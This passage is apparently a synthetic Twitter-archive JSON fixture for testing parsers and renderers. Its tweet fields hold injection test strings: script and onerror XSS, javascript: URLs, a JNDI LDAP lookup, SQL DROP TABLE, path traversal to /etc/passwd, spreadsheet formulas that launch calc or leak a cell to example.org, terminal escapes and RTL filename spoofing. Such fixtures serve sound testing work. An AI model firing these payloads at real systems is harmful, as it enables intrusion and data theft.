            "name" : "{{ 7*7 }} {% raw %} ${jndi:ldap://example.org/a} %s %n {0}",
            "screen_name" : "{{ 7*7 }} {% raw %} ${jndi:ldap://example.org/a} %s %n {0}",
            "indices" : [
              "0",
              "7"
            ],
            "id_str" : "1257459995246932069",
            "id" : "1257459995246932069"
          }
        ],
        "urls" : [
          {
            "url" : "https://t.co/mYRadKQ0Xn",
            "expanded_url" : "javascript:alert(1)",
            "display_url" : "{{ 7*7 }} {% raw %} ${jndi:ldap://example.org/a} %s %n {0}",
            "indices" : [
              "72",
              "95"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "95"
      ],
      "favorite_count" : "21",
      "in_reply_to_status_id_str" : "1725083875144836591",
      "id_str" : "1725091424893722245",
      "in_reply_to_user_id" : "1257459995246932069",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1725091424893722245",
      "in_reply_to_status_id" : "1725083875144836591",
      "possibly_sensitive" : false,
      "created_at" : "Thu Nov 16 10:00:21 +0000 2023",
      "favorited" : false,
      "full_text" : "@name21 {{ 7*7 }} {% raw %} ${jndi:ldap://example.org/a} %s %n {0} #tag https://t.co/mYRadKQ0Xn",
      "lang" : "en",
      "in_reply_to_screen_name" : "name21",
      "in_reply_to_user_id_str" : "1257459995246932069"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1719655602714781242"
          ],
          "editableUntil" : "2023-11-01T11:00:20.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/20\" rel=\"nofollow\">NULL</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "NULL",
            "indices" : [
              "5",
              "9"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/2yEkBJ191d",
            "expanded_url" : "https://example.com/?q=NULL",
            "display_url" : "NULL",
            "indices" : [
              "10",
              "33"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "33"
      ],
      "favorite_count" : "20",
      "id_str" : "1719655602714781242",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1719655602714781242",
      "possibly_sensitive" : false,
      "created_at" : "Wed Nov 01 10:00:20 +0000 2023",
      "favorited" : false,
      "full_text" : "NULL #tag https://t.co/2yEkBJ191d",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1714219780538434649"
          ],
          "editableUntil" : "2023-10-17T11:00:19.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/19\" rel=\"nofollow\">NaN</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "NaN",
            "indices" : [
              "4",
              "8"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/uX8PThypLI",
            "expanded_url" : "https://example.org/NaN",
            "display_url" : "NaN",
            "indices" : [
              "9",
              "32"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "32"
      ],
      "favorite_count" : "19",
      "id_str" : "1714219780538434649",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1714219780538434649",
      "possibly_sensitive" : false,
      "created_at" : "Tue Oct 17 10:00:19 +0000 2023",
      "favorited" : false,
      "full_text" : "NaN #tag https://t.co/uX8PThypLI",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1708783958360629973"
          ],
          "editableUntil" : "2023-10-02T11:00:18.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/18\" rel=\"nofollow\">CON.txt</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "CON.txt",
            "indices" : [
              "8",
              "12"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/04ZDaGCoKX",
            "expanded_url" : "javascript:alert(1)",
            "display_url" : "CON.txt",
            "indices" : [
              "13",
              "36"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "36"
      ],
      "favorite_count" : "18",
      "id_str" : "1708783958360629973",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1708783958360629973",
      "possibly_sensitive" : false,
      "created_at" : "Mon Oct 02 10:00:18 +0000 2023",
      "favorited" : false,
      "full_text" : "CON.txt #tag https://t.co/04ZDaGCoKX",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1703348136181854536"
          ],
          "editableUntil" : "2023-09-17T11:00:17.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : false
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/17\" rel=\"nofollow\">C:\\Windows\\win.ini</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "C:\\Windows\\win.ini",
            "indices" : [
              "27",
              "31"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [
          {
            "name" : "C:\\Windows\\win.ini",
            "screen_name" : "C:\\Windows\\win.ini",
            "indices" : [
              "0",
              "7"
            ],
            "id_str" : "1127000363628031251",
            "id" : "1127000363628031251"
          }
        ],
        "urls" : [
          {
            "url" : "https://t.co/EA0hKPW2IA",
            "expanded_url" : "https://example.com/?q=C:\\Windows\\win.ini",
            "display_url" : "C:\\Windows\\win.ini",
            "indices" : [
              "32",
              "55"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "55"
      ],
      "favorite_count" : "17",
      "in_reply_to_status_id_str" : "1703341593067734065",
      "id_str" : "1703348136181854536",
      "in_reply_to_user_id" : "1127000363628031251",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1703348136181854536",
      "in_reply_to_status_id" : "1703341593067734065",
      "possibly_sensitive" : false,
      "created_at" : "Sun Sep 17 10:00:17 +0000 2023",
      "favorited" : false,
      "full_text" : "@name17 C:\\Windows\\win.ini #tag https://t.co/EA0hKPW2IA",
      "lang" : "C:\\Windows\\w",
      "in_reply_to_screen_name" : "C:\\Windows\\win.ini",
      "in_reply_to_user_id_str" : "1127000363628031251"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1697912314000689943"
          ],
          "editableUntil" : "2023-09-02T11:00:16.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : false
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/16\" rel=\"nofollow\">../../../../etc/passwd</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "../../../../etc/passwd",
            "indices" : [
              "35",
              "39"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [
          {
            "name" : "../../../../etc/passwd",
            "screen_name" : "name16",
            "indices" : [
              "3",
              "10"
            ],
            "id_str" : "1094385455724510356",
            "id" : "1094385455724510356"
          }
        ],
        "urls" : [
          {
            "url" : "https://t.co/H8F2Dqhxzu",
            "expanded_url" : "https://example.org/../../../../etc/passwd",
            "display_url" : "../../../../etc/passwd",
            "indices" : [
              "40",
              "63"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "63"
      ],
      "favorite_count" : "0",
      "id_str" : "1697912314000689943",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1697912314000689943",
      "possibly_sensitive" : false,
      "created_at" : "Sat Sep 02 10:00:16 +0000 2023",
      "favorited" : false,
      "full_text" : "RT @name16: ../../../../etc/passwd #tag https://t.co/H8F2Dqhxzu",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1692476491825667847"
          ],
          "editableUntil" : "2023-08-18T11:00:15.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/15\" rel=\"nofollow\">quote \" double \"\" single ' back ` slash \\</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "quote \" double \"\" single ' back ` slash \\",
            "indices" : [
              "42",
              "46"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/e0rTxs0NGO",
            "expanded_url" : "javascript:alert(1)",
            "display_url" : "quote \" double \"\" single ' back ` slash \\",
            "indices" : [
              "47",
              "70"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "70"
      ],
      "favorite_count" : "15",
      "id_str" : "1692476491825667847",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1692476491825667847",
      "possibly_sensitive" : false,
      "created_at" : "Fri Aug 18 10:00:15 +0000 2023",
      "favorited" : false,
      "full_text" : "quote \" double \"\" single ' back ` slash \\ #tag https://t.co/e0rTxs0NGO",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1687040669647104920"
          ],
          "editableUntil" : "2023-08-03T11:00:14.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/14\" rel=\"nofollow\">'; DROP TABLE posts; --</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "'; DROP TABLE posts; --",
            "indices" : [
              "24",
              "28"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/GZGHMiZ9xr",
            "expanded_url" : "https://example.com/?q='; DROP TABLE posts; --",
            "display_url" : "'; DROP TABLE posts; --",
            "indices" : [
              "29",
              "52"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "52"
      ],
      "favorite_count" : "14",
      "id_str" : "1687040669647104920",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1687040669647104920",
      "possibly_sensitive" : false,
      "created_at" : "Thu Aug 03 10:00:14 +0000 2023",
      "favorited" : false,
      "full_text" : "'; DROP TABLE posts; -- #tag https://t.co/GZGHMiZ9xr",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1681604847465411446"
          ],
          "editableUntil" : "2023-07-19T11:00:13.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : false
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/13\" rel=\"nofollow\">nul \u0000 inside</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "nul \u0000 inside",
            "indices" : [
              "21",
              "25"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [
          {
            "name" : "nul \u0000 inside",
            "screen_name" : "nul \u0000 inside",
            "indices" : [
              "0",
              "7"
            ],
            "id_str" : "996540732012599585",
            "id" : "996540732012599585"
          }
        ],
        "urls" : [
          {
            "url" : "https://t.co/wTZiZxT3zm",
            "expanded_url" : "https://example.org/nul \u0000 inside",
            "display_url" : "nul \u0000 inside",
            "indices" : [
              "26",
              "49"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "49"
      ],
      "favorite_count" : "13",
      "in_reply_to_status_id_str" : "1681599310986409530",
      "id_str" : "1681604847465411446",
      "in_reply_to_user_id" : "996540732012599585",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1681604847465411446",
      "in_reply_to_status_id" : "1681599310986409530",
      "possibly_sensitive" : false,
      "created_at" : "Wed Jul 19 10:00:13 +0000 2023",
      "favorited" : false,
      "full_text" : "@name13 nul \u0000 inside #tag https://t.co/wTZiZxT3zm",
      "lang" : "en",
      "in_reply_to_screen_name" : "name13",
      "in_reply_to_user_id_str" : "996540732012599585"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1676169025291150993"
          ],
          "editableUntil" : "2023-07-04T11:00:12.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/12\" rel=\"nofollow\">family 👩‍👩‍👧‍👦 flag 🏴‍☠️ skin 👍🏽 keycap 1️⃣</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "family 👩‍👩‍👧‍👦 flag 🏴‍☠️ skin 👍🏽 keycap 1️⃣",
            "indices" : [
              "44",
              "48"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/hmM97RI6g6",
            "expanded_url" : "javascript:alert(1)",
            "display_url" : "family 👩‍👩‍👧‍👦 flag 🏴‍☠️ skin 👍🏽 keycap 1️⃣",
            "indices" : [
              "49",
              "72"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "72"
      ],
      "favorite_count" : "12",
      "id_str" : "1676169025291150993",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1676169025291150993",
      "possibly_sensitive" : false,
      "created_at" : "Tue Jul 04 10:00:12 +0000 2023",
      "favorited" : false,
      "full_text" : "family 👩‍👩‍👧‍👦 flag 🏴‍☠️ skin 👍🏽 keycap 1️⃣ #tag https://t.co/hmM97RI6g6",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1670733203111143328"
          ],
          "editableUntil" : "2023-06-19T11:00:11.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/11\" rel=\"nofollow\">‮gnp.exe‬ ⁦isolate⁩ ‏RTL</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "‮gnp.exe‬ ⁦isolate⁩ ‏RTL",
            "indices" : [
              "25",
              "29"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/yuEgtvsujt",
            "expanded_url" : "https://example.com/?q=‮gnp.exe‬ ⁦isolate⁩ ‏RTL",
            "display_url" : "‮gnp.exe‬ ⁦isolate⁩ ‏RTL",
            "indices" : [
              "30",
              "53"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "53"
      ],
      "favorite_count" : "11",
      "id_str" : "1670733203111143328",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1670733203111143328",
      "possibly_sensitive" : false,
      "created_at" : "Mon Jun 19 10:00:11 +0000 2023",
      "favorited" : false,
      "full_text" : "‮gnp.exe‬ ⁦isolate⁩ ‏RTL #tag https://t.co/yuEgtvsujt",
      "lang" : "‮gnp.exe‬ ⁦i"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1665297380930898427"
          ],
          "editableUntil" : "2023-06-04T11:00:10.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/10\" rel=\"nofollow\">costs $5 or $x^2$ or \\frac{1}{2} $\\alpha_{i}$</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "costs $5 or $x^2$ or \\frac{1}{2} $\\alpha_{i}$",
            "indices" : [
              "46",
              "50"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/mOn93yn0rI",
            "expanded_url" : "https://example.org/costs $5 or $x^2$ or \\frac{1}{2} $\\alpha_{i}$",
            "display_url" : "costs $5 or $x^2$ or \\frac{1}{2} $\\alpha_{i}$",
            "indices" : [
              "51",
              "74"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "74"
      ],
      "favorite_count" : "10",
      "id_str" : "1665297380930898427",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1665297380930898427",
      "possibly_sensitive" : false,
      "created_at" : "Sun Jun 04 10:00:10 +0000 2023",
      "favorited" : false,
      "full_text" : "costs $5 or $x^2$ or \\frac{1}{2} $\\alpha_{i}$ #tag https://t.co/mOn93yn0rI",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1659861558752993856"
          ],
          "editableUntil" : "2023-05-20T11:00:09.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : false
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/9\" rel=\"nofollow\">31m and \b\b</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "31m and \b\b",
            "indices" : [
              "24",
              "28"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [
          {
            "name" : "31m and \b\b",
            "screen_name" : "31m and \b\b",
            "indices" : [
              "3",
              "9"
            ],
            "id_str" : "866081100396716766",
            "id" : "866081100396716766"
          }
        ],
        "urls" : [
          {
            "url" : "https://t.co/VPh3JDBGlY",
            "expanded_url" : "javascript:alert(1)",
            "display_url" : "31m and \b\b",
            "indices" : [
              "29",
              "52"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "52"
      ],
      "favorite_count" : "0",
      "in_reply_to_status_id_str" : "1659857028907992348",
      "id_str" : "1659861558752993856",
      "in_reply_to_user_id" : "866081100396716766",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1659861558752993856",
      "in_reply_to_status_id" : "1659857028907992348",
      "possibly_sensitive" : false,
      "created_at" : "Sat May 20 10:00:09 +0000 2023",
      "favorited" : false,
      "full_text" : "RT @name9: 31m and \b\b #tag https://t.co/VPh3JDBGlY",
      "lang" : "en",
      "in_reply_to_screen_name" : "31m and \b\b",
      "in_reply_to_user_id_str" : "866081100396716766"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1654425736575028705"
          ],
          "editableUntil" : "2023-05-05T11:00:08.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/8\" rel=\"nofollow\">\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J",
            "indices" : [
              "29",
              "33"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/itUXcRmGF8",
            "expanded_url" : "https://example.com/?q=\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J",
            "display_url" : "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J",
            "indices" : [
              "34",
              "57"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "57"
      ],
      "favorite_count" : "8",
      "id_str" : "1654425736575028705",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1654425736575028705",
      "possibly_sensitive" : false,
      "created_at" : "Fri May 05 10:00:08 +0000 2023",
      "favorited" : false,
      "full_text" : "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J #tag https://t.co/itUXcRmGF8",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1648989914395714387"
          ],
          "editableUntil" : "2023-04-20T11:00:07.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/7\" rel=\"nofollow\">\t=1+1</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "\t=1+1",
            "indices" : [
              "6",
              "10"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/7Bjb3jzj7g",
            "expanded_url" : "https://example.org/\t=1+1",
            "display_url" : "\t=1+1",
            "indices" : [
              "11",
              "34"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "34"
      ],
      "favorite_count" : "7",
      "id_str" : "1648989914395714387",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1648989914395714387",
      "possibly_sensitive" : false,
      "created_at" : "Thu Apr 20 10:00:07 +0000 2023",
      "favorited" : false,
      "full_text" : "\t=1+1 #tag https://t.co/7Bjb3jzj7g",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1643554092221192628"
          ],
          "editableUntil" : "2023-04-05T11:00:06.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/6\" rel=\"nofollow\">@SUM(A1:A9)</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "@SUM(A1:A9)",
            "indices" : [
              "12",
              "16"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/pJEySzJ2Jq",
            "expanded_url" : "javascript:alert(1)",
            "display_url" : "@SUM(A1:A9)",
            "indices" : [
              "17",
              "40"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "40"
      ],
      "favorite_count" : "6",
      "id_str" : "1643554092221192628",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1643554092221192628",
      "possibly_sensitive" : false,
      "created_at" : "Wed Apr 05 10:00:06 +0000 2023",
      "favorited" : false,
      "full_text" : "@SUM(A1:A9) #tag https://t.co/pJEySzJ2Jq",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1638118270040224750"
          ],
          "editableUntil" : "2023-03-21T11:00:05.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : false
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/5\" rel=\"nofollow\">-1+2</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "-1+2",
            "indices" : [
              "12",
              "16"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [
          {
            "name" : "-1+2",
            "screen_name" : "-1+2",
            "indices" : [
              "0",
              "6"
            ],
            "id_str" : "735621468779964296",
            "id" : "735621468779964296"
          }
        ],
        "urls" : [
          {
            "url" : "https://t.co/RSbVq8Po7W",
            "expanded_url" : "https://example.com/?q=-1+2",
            "display_url" : "-1+2",
            "indices" : [
              "17",
              "40"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "40"
      ],
      "favorite_count" : "5",
      "in_reply_to_status_id_str" : "1638114746827019381",
      "id_str" : "1638118270040224750",
      "in_reply_to_user_id" : "735621468779964296",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1638118270040224750",
      "in_reply_to_status_id" : "1638114746827019381",
      "possibly_sensitive" : false,
      "created_at" : "Tue Mar 21 10:00:05 +0000 2023",
      "favorited" : false,
      "full_text" : "@name5 -1+2 #tag https://t.co/RSbVq8Po7W",
      "lang" : "-1+2",
      "in_reply_to_screen_name" : "name5",
      "in_reply_to_user_id_str" : "735621468779964296"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1632682447864039503"
          ],
          "editableUntil" : "2023-03-06T11:00:04.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/4\" rel=\"nofollow\">+1+cmd|' /C calc'!A0</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "+1+cmd|' /C calc'!A0",
            "indices" : [
              "21",
              "25"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/WKPs6lyKR6",
            "expanded_url" : "https://example.org/+1+cmd|' /C calc'!A0",
            "display_url" : "+1+cmd|' /C calc'!A0",
            "indices" : [
              "26",
              "49"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "49"
      ],
      "favorite_count" : "4",
      "id_str" : "1632682447864039503",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1632682447864039503",
      "possibly_sensitive" : false,
      "created_at" : "Mon Mar 06 10:00:04 +0000 2023",
      "favorited" : false,
      "full_text" : "+1+cmd|' /C calc'!A0 #tag https://t.co/WKPs6lyKR6",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1627246625685713814"
          ],
          "editableUntil" : "2023-02-19T11:00:03.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/3\" rel=\"nofollow\">=HYPERLINK(\"https://example.org/?leak=\"&A1,\"click\")</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "=HYPERLINK(\"https://example.org/?leak=\"&A1,\"click\")",
            "indices" : [
              "53",
              "57"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/ihnWdqeWuZ",
            "expanded_url" : "javascript:alert(1)",
            "display_url" : "=HYPERLINK(\"https://example.org/?leak=\"&A1,\"click\")",
            "indices" : [
              "12",
              "35"
            ]
          },
          {
            "url" : "https://t.co/3OViSssq7t",
            "expanded_url" : "javascript:alert(1)",
            "display_url" : "=HYPERLINK(\"https://example.org/?leak=\"&A1,\"click\")",
            "indices" : [
              "58",
              "81"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "81"
      ],
      "favorite_count" : "3",
      "id_str" : "1627246625685713814",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1627246625685713814",
      "possibly_sensitive" : false,
      "created_at" : "Sun Feb 19 10:00:03 +0000 2023",
      "favorited" : false,
      "full_text" : "=HYPERLINK(\"https://t.co/ihnWdqeWuZ\"&amp;A1,\"click\") #tag https://t.co/3OViSssq7t",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1621810803506280401"
          ],
          "editableUntil" : "2023-02-04T11:00:02.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : false
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/2\" rel=\"nofollow\"><b>bold</b> & <i>sly</i> &amp; &#60;u&#62;</a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "<b>bold</b> & <i>sly</i> &amp; &#60;u&#62;",
            "indices" : [
              "94",
              "98"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [
          {
            "name" : "<b>bold</b> & <i>sly</i> &amp; &#60;u&#62;",
            "screen_name" : "name2",
            "indices" : [
              "3",
              "9"
            ],
            "id_str" : "3774798074",
            "id" : "3774798074"
          }
        ],
        "urls" : [
          {
            "url" : "https://t.co/zQ2BPVZljj",
            "expanded_url" : "https://example.com/?q=<b>bold</b> & <i>sly</i> &amp; &#60;u&#62;",
            "display_url" : "<b>bold</b> & <i>sly</i> &amp; &#60;u&#62;",
            "indices" : [
              "99",
              "122"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "122"
      ],
      "favorite_count" : "0",
      "id_str" : "1621810803506280401",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1621810803506280401",
      "possibly_sensitive" : false,
      "created_at" : "Sat Feb 04 10:00:02 +0000 2023",
      "favorited" : false,
      "full_text" : "RT @name2: &lt;b&gt;bold&lt;/b&gt; &amp; &lt;i&gt;sly&lt;/i&gt; &amp;amp; &amp;#60;u&amp;#62; #tag https://t.co/zQ2BPVZljj",
      "lang" : "en"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1616374981329747803"
          ],
          "editableUntil" : "2023-01-20T11:00:01.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : false
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/1\" rel=\"nofollow\"></script><img src=x onerror=alert(1)></a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "</script><img src=x onerror=alert(1)>",
            "indices" : [
              "57",
              "61"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [
          {
            "name" : "</script><img src=x onerror=alert(1)>",
            "screen_name" : "</script><img src=x onerror=alert(1)>",
            "indices" : [
              "0",
              "6"
            ],
            "id_str" : "3282405140",
            "id" : "3282405140"
          }
        ],
        "urls" : [
          {
            "url" : "https://t.co/Bi0AGlmwxi",
            "expanded_url" : "https://example.org/</script><img src=x onerror=alert(1)>",
            "display_url" : "</script><img src=x onerror=alert(1)>",
            "indices" : [
              "62",
              "85"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "85"
      ],
      "favorite_count" : "1",
      "in_reply_to_status_id_str" : "1616372464743912194",
      "id_str" : "1616374981329747803",
      "in_reply_to_user_id" : "3282405140",
      "truncated" : false,
      "retweet_count" : "0",
      "id" : "1616374981329747803",
      "in_reply_to_status_id" : "1616372464743912194",
      "possibly_sensitive" : false,
      "created_at" : "Fri Jan 20 10:00:01 +0000 2023",
      "favorited" : false,
      "full_text" : "@name1 &lt;/script&gt;&lt;img src=x onerror=alert(1)&gt; #tag https://t.co/Bi0AGlmwxi",
      "lang" : "en",
      "in_reply_to_screen_name" : "</script><img src=x onerror=alert(1)>",
      "in_reply_to_user_id_str" : "3282405140"
    }
  },
  {
    "tweet" : {
      "edit_info" : {
        "initial" : {
          "editTweetIds" : [
            "1610939159150480851"
          ],
          "editableUntil" : "2023-01-05T11:00:00.000Z",
          "editsRemaining" : "5",
          "isEditEligible" : true
        }
      },
      "retweeted" : false,
      "source" : "<a href=\"https://example.org/0\" rel=\"nofollow\"><script>alert('harbour')</script></a>",
      "entities" : {
        "hashtags" : [
          {
            "text" : "<script>alert('harbour')</script>",
            "indices" : [
              "46",
              "50"
            ]
          }
        ],
        "symbols" : [ ],
        "user_mentions" : [ ],
        "urls" : [
          {
            "url" : "https://t.co/JRHnFXAtnP",
            "expanded_url" : "javascript:alert(1)",
            "display_url" : "<script>alert('harbour')</script>",
            "indices" : [
              "51",
              "74"
            ]
          }
        ]
      },
      "display_text_range" : [
        "0",
        "74"
      ],
